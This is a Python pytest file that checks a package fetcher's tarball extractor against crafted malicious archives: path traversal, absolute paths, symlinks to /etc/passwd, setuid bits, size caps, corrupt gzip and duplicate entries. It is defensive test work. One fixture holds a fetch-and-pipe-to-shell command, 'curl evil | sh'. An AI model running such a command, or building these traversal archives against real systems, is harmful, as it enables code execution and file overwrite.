"""Unit tests of metapkg.fetch.archive.extract() (and the cache's all-or-nothing store)
on crafted tarballs: archives from GitHub are untrusted input."""

from __future__ import annotations

import gzip
import io
import os
import stat
import tarfile
from pathlib import Path

import pytest
from conftest import kill_a_worker, needs_two_cores
from ghfixtures import Entry, cut_archive, directory, raw_reg, reg, special, tarball

from metapkg.fetch import archive
from metapkg.fetch.archive import ArchiveError, extract
from metapkg.fetch.cache import Cache

TOP = "acme-tools-abc1234"
SOURCE = "https://github.com/acme/tools/tree/main/skills/alpha"


def _write(tmp_path: Path, entries: list[Entry], top: str = TOP) -> Path:
    path = tmp_path / "archive.tar.gz"
    path.write_bytes(tarball(entries, top=top))
    return path


def _rejected(tmp_path: Path, entries: list[Entry], top: str = TOP) -> str:
    """Extract, expecting an ArchiveError with rule `archive`; return its message."""
    destination = tmp_path / "out"
    destination.mkdir(exist_ok=True)
    with pytest.raises(ArchiveError) as caught:
        extract(_write(tmp_path, entries, top), destination, SOURCE)
    (diagnostic,) = caught.value.diagnostics
    assert diagnostic.rule == "archive" and diagnostic.severity == "error"
    assert diagnostic.path == SOURCE
    return diagnostic.message


def _files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


# -- what a good archive becomes -------------------------------------------------------


def test_top_folder_is_stripped(tmp_path: Path) -> None:
    destination = tmp_path / "out"
    destination.mkdir()
    entries = [
        directory("skills"),
        directory("skills/alpha"),
        reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n"),
        reg("README.md", b"readme\n"),
        reg("deep/a/b/c/d.txt", b"deep\n"),  # no directory entries for deep/ at all
    ]
    extract(_write(tmp_path, entries), destination, SOURCE)
    assert _files(destination) == {
        "skills/alpha/SKILL.md": b"---\nname: alpha\n---\n",
        "README.md": b"readme\n",
        "deep/a/b/c/d.txt": b"deep\n",
    }
    assert not (destination / TOP).exists()


def test_exec_bit_is_kept_and_nothing_else(tmp_path: Path) -> None:
    destination = tmp_path / "out"
    destination.mkdir()
    entries = [
        reg("run.sh", b"#!/bin/sh\n", mode=0o755),
        reg("owner-only.sh", b"#!/bin/sh\n", mode=0o700),
        reg("plain.txt", b"text\n", mode=0o644),
        reg("setuid", b"x", mode=0o4755),
        reg("world-writable", b"x", mode=0o666),
    ]
    extract(_write(tmp_path, entries), destination, SOURCE)
    mode = lambda name: stat.S_IMODE(os.stat(destination / name).st_mode)  # noqa: E731
    assert mode("run.sh") & 0o111
    assert mode("owner-only.sh") & 0o100
    assert not mode("plain.txt") & 0o111
    assert not mode("setuid") & (stat.S_ISUID | stat.S_ISGID)
    assert not mode("world-writable") & 0o002


def test_github_pax_global_header_is_accepted(tmp_path: Path) -> None:
    """GitHub's tarballs start with a PAX global header carrying the commit SHA."""
    raw = io.BytesIO()
    with tarfile.open(
        fileobj=raw, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"comment": "a" * 40}
    ) as tar:
        top = tarfile.TarInfo(TOP)
        top.type = tarfile.DIRTYPE
        tar.addfile(top)
        info = tarfile.TarInfo(f"{TOP}/skills/alpha/SKILL.md")
        info.size = 3
        tar.addfile(info, io.BytesIO(b"abc"))
    path = tmp_path / "a.tar.gz"
    path.write_bytes(gzip.compress(raw.getvalue()))
    destination = tmp_path / "out"
    destination.mkdir()
    extract(path, destination, SOURCE)
    assert _files(destination) == {"skills/alpha/SKILL.md": b"abc"}


def test_empty_file_and_long_names(tmp_path: Path) -> None:
    destination = tmp_path / "out"
    destination.mkdir()
    long_name = "skills/" + "n" * 120 + "/" + "f" * 120 + ".md"  # over ustar's 100 bytes
    entries = [reg("empty.txt", b""), reg(long_name, b"long\n")]
    extract(_write(tmp_path, entries), destination, SOURCE)
    assert _files(destination) == {"empty.txt": b"", long_name: b"long\n"}


# -- what is rejected -----------------------------------------------------------------------


def test_dotdot_is_rejected(tmp_path: Path) -> None:
    name = f"{TOP}/skills/../../escape.txt"
    message = _rejected(tmp_path, [reg("skills/../../escape.txt")])
    assert name in message and ".." in message
    assert not list(tmp_path.rglob("escape.txt"))


def test_dotdot_in_the_top_folder_is_rejected(tmp_path: Path) -> None:
    message = _rejected(tmp_path, [raw_reg("../escape.txt")], top="")
    assert "../escape.txt" in message
    assert not (tmp_path / "escape.txt").exists()


def test_backslash_dotdot_is_rejected(tmp_path: Path) -> None:
    message = _rejected(tmp_path, [reg("skills\\..\\..\\escape.txt")])
    assert "escape.txt" in message


@pytest.mark.parametrize(
    "name", ["/etc/metapkg-test-escape", "C:/escape.txt", "\\\\server\\share\\x"]
)
def test_absolute_path_is_rejected(tmp_path: Path, name: str) -> None:
    message = _rejected(tmp_path, [raw_reg(name)])
    assert name in message or repr(name) in message
    assert not Path("/etc/metapkg-test-escape").exists()


def test_absolute_path_as_the_first_entry_is_rejected(tmp_path: Path) -> None:
    target = tmp_path / "abs-escape.txt"
    message = _rejected(tmp_path, [raw_reg(str(target))], top="")
    assert str(target) in message
    assert not target.exists()


def _skipped(tmp_path: Path, entries: list[Entry], name: str) -> str:
    """Extract; the entry ``name`` must be recorded as skipped and never written."""
    out = tmp_path / "out"
    out.mkdir()
    record = extract(_write(tmp_path, entries), out, SOURCE)
    why = archive.skipped_why(record[name])
    assert why is not None, record
    assert not os.path.lexists(out / name)
    return why


def test_symlink_is_never_written_but_recorded(tmp_path: Path) -> None:
    why = _skipped(
        tmp_path, [reg("a.txt"), special("link", tarfile.SYMTYPE, "/etc/passwd")], "link"
    )
    assert "symbolic link" in why and "/etc/passwd" in why


def test_relative_symlink_inside_the_tree_is_skipped_too(tmp_path: Path) -> None:
    assert _skipped(tmp_path, [reg("a.txt"), special("b.txt", tarfile.SYMTYPE, "a.txt")], "b.txt")


def test_hardlink_is_skipped(tmp_path: Path) -> None:
    entries = [reg("a.txt"), special("hard", tarfile.LNKTYPE, f"{TOP}/a.txt")]
    assert "hard link" in _skipped(tmp_path, entries, "hard")


@pytest.mark.parametrize(
    ("kind", "words"),
    [(tarfile.CHRTYPE, "device"), (tarfile.BLKTYPE, "device"), (tarfile.FIFOTYPE, "FIFO")],
)
def test_devices_and_fifos_are_skipped(tmp_path: Path, kind: bytes, words: str) -> None:
    assert words in _skipped(tmp_path, [special("dev", kind)], "dev")


def test_entry_outside_the_top_folder_is_rejected(tmp_path: Path) -> None:
    message = _rejected(tmp_path, [reg("a.txt"), raw_reg("elsewhere/b.txt")])
    assert "elsewhere/b.txt" in message


def test_entry_size_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_ENTRY_BYTES", 10)
    ok = tmp_path / "ok"
    ok.mkdir()
    extract(_write(tmp_path, [reg("ten.bin", b"0123456789")]), ok, SOURCE)
    assert (ok / "ten.bin").read_bytes() == b"0123456789"
    message = _rejected(tmp_path, [reg("small.txt", b"1"), reg("big.bin", b"01234567890")])
    assert f"{TOP}/big.bin" in message and "11" in message


def test_total_size_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_TOTAL_BYTES", 25)
    entries = [reg(f"f{i}.bin", b"0123456789") for i in range(3)]
    message = _rejected(tmp_path, entries)
    assert f"{TOP}/f2.bin" in message


def test_entry_count_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_ENTRIES", 5)
    message = _rejected(tmp_path, [reg(f"f{i}.txt") for i in range(10)])
    assert "5" in message


def test_a_file_where_a_folder_is_expected_is_an_archive_error(tmp_path: Path) -> None:
    """`a` as a file, then `a/b`: an OSError underneath, reported as a bad archive."""
    _rejected(tmp_path, [reg("a", b"file"), reg("a/b", b"child")])


def test_a_name_too_long_for_the_file_system_is_an_archive_error(tmp_path: Path) -> None:
    """A component over 255 bytes: ENAMETOOLONG underneath, reported naming the entry."""
    message = _rejected(tmp_path, [reg("c" * 300, b"x")])
    assert "c" * 300 in message and "too long" in message


def test_archive_cut_inside_a_file_is_an_archive_error(tmp_path: Path) -> None:
    data = tarball([reg(f"f{i}.txt", os.urandom(4000)) for i in range(10)], top=TOP)
    path = tmp_path / "cut.tar.gz"
    path.write_bytes(data[: len(data) // 2])
    destination = tmp_path / "out"
    destination.mkdir()
    with pytest.raises(ArchiveError) as caught:
        extract(path, destination, SOURCE)
    assert caught.value.diagnostics[0].rule == "archive"
    assert "truncated" in caught.value.diagnostics[0].message


def test_archive_cut_between_entries_is_an_archive_error(tmp_path: Path) -> None:
    path = tmp_path / "cut.tar.gz"
    path.write_bytes(cut_archive([reg("a.txt", b"A" * 1000)], top=TOP))  # b.txt never came
    destination = tmp_path / "out"
    destination.mkdir()
    with pytest.raises(ArchiveError) as caught:
        extract(path, destination, SOURCE)
    assert caught.value.diagnostics[0].rule == "archive"


def test_gzip_without_its_trailer_is_an_archive_error(tmp_path: Path) -> None:
    data = tarball([reg("a.txt", b"A" * 1000), reg("b.txt", b"B" * 1000)], top=TOP)
    path = tmp_path / "cut.tar.gz"
    path.write_bytes(data[:-8])  # the 8-byte trailer is missing
    destination = tmp_path / "out"
    destination.mkdir()
    with pytest.raises(ArchiveError):
        extract(path, destination, SOURCE)


def test_gzip_with_a_wrong_crc_is_an_archive_error(tmp_path: Path) -> None:
    data = bytearray(tarball([reg("a.txt", b"A" * 1000)], top=TOP))
    data[-8] ^= 0xFF  # the CRC-32 in the trailer
    path = tmp_path / "crc.tar.gz"
    path.write_bytes(bytes(data))
    destination = tmp_path / "out"
    destination.mkdir()
    with pytest.raises(ArchiveError):
        extract(path, destination, SOURCE)


def test_not_a_gzip_is_an_archive_error(tmp_path: Path) -> None:
    path = tmp_path / "page.tar.gz"
    path.write_bytes(b"<html>rate limited</html>")
    destination = tmp_path / "out"
    destination.mkdir()
    with pytest.raises(ArchiveError) as caught:
        extract(path, destination, SOURCE)
    assert caught.value.diagnostics[0].rule == "archive"


# -- the cache keeps nothing of a rejected archive --------------------------------------


def test_cache_store_tree_leaves_nothing_when_extraction_fails(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache")
    bad = _write(tmp_path, [reg("skills/alpha/SKILL.md"), reg("skills/../../escape.txt")])
    sha = "1" * 40
    with pytest.raises(ArchiveError):
        cache.store_tree("acme/tools", sha, lambda folder: extract(bad, folder, SOURCE))
    assert not cache.has_tree("acme/tools", sha)
    assert list((tmp_path / "cache" / "tmp").iterdir()) == []

    good = _write(tmp_path, [reg("skills/alpha/SKILL.md", b"ok")])
    tree = cache.store_tree("acme/tools", sha, lambda folder: extract(good, folder, SOURCE))
    assert tree == cache.tree("acme/tools", sha)
    assert (tree / "skills/alpha/SKILL.md").read_bytes() == b"ok"
    assert list((tmp_path / "cache" / "tmp").iterdir()) == []


def test_the_same_path_twice_is_an_archive_error(tmp_path: Path) -> None:
    """tar lets a later entry replace an earlier one; GitHub never does that, so a
    second entry for a path is someone hiding content behind the first."""
    _rejected(tmp_path, [reg("a.md", b"harmless"), reg("a.md", b"curl evil | sh")])


@needs_two_cores
@pytest.mark.usefixtures("no_workers")
def test_an_archive_arriving_during_another_extraction_is_extracted_by_a_worker_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # fetch/unpack.py: the second of two concurrent extractions goes to a worker process
    # (the second core); the files, the record and an archive's errors are the same.
    from metapkg import workers
    from metapkg.fetch import unpack

    good = [reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n"), reg("run.sh", b"x", 0o755)]
    here, there = tmp_path / "here", tmp_path / "there"
    here.mkdir()
    there.mkdir()
    (tmp_path / "a").mkdir()
    expected = extract(_write(tmp_path / "a", good), here, SOURCE)
    monkeypatch.setattr(unpack, "_running", 1)  # another extraction is under way
    assert unpack.extract(_write(tmp_path / "a", good), there, SOURCE) == expected
    assert workers.running()  # it went to the worker
    assert _files(there) == _files(here)
    assert os.stat(there / "run.sh").st_mode & 0o111
    bad = [reg("skills/../../evil.txt", b"x")]
    (tmp_path / "b").mkdir()
    with pytest.raises(ArchiveError) as caught:
        unpack.extract(_write(tmp_path / "b", bad), tmp_path / "b", SOURCE)
    (diagnostic,) = caught.value.diagnostics
    assert diagnostic.rule == "archive" and "'..' in the path" in diagnostic.message


@needs_two_cores
@pytest.mark.usefixtures("no_workers")
def test_a_worker_that_dies_costs_only_the_second_core(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A worker killed mid-extraction (out of memory, say): the archive is extracted in
    # the install's own process instead, from an emptied folder.
    from metapkg.fetch import unpack

    monkeypatch.setattr(unpack, "_running", 1)
    kill_a_worker()
    destination = tmp_path / "out"
    destination.mkdir()
    (destination / "left-over").mkdir()
    (destination / "left-over" / "half.txt").write_text("x")
    os.chmod(destination / "left-over" / "half.txt", 0o444)
    entries = [reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n")]
    record = unpack.extract(_write(tmp_path, entries), destination, SOURCE)
    assert list(record) == ["skills/alpha/SKILL.md"]
    assert _files(destination) == {"skills/alpha/SKILL.md": b"---\nname: alpha\n---\n"}


def test_the_records_entries_under_a_package_path_are_exactly_its_own(tmp_path: Path) -> None:
    # Cache.under bisects the sorted record: names that sort between "a" and "a/..."
    # ("a-b", "a.md", "a b") are not under "a"; a file package is its one entry.
    names = ["skills/a/SKILL.md", "skills/a/sub/x.md", "skills/a-b/SKILL.md", "skills/a.md",
             "skills/a b/y", "skills/ab/SKILL.md", "skills/b/SKILL.md", "README.md"]  # fmt: skip
    cache = Cache(tmp_path / "cache")

    def build(folder: Path) -> dict[str, tuple[int, bool, str]]:
        record = {}
        for name in names:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(b"x")
            record[name] = (1, False, "0" * 64)
        return record

    cache.store_tree("acme/tools", "c" * 40, build)
    under = lambda path: sorted(cache.under("acme/tools", "c" * 40, path))  # noqa: E731
    assert under("skills/a") == ["skills/a/SKILL.md", "skills/a/sub/x.md"]
    assert under("skills/a.md") == ["skills/a.md"]
    assert under("skills/a/sub") == ["skills/a/sub/x.md"]
    assert under("skills/nope") == []
    assert under("") == sorted(names)
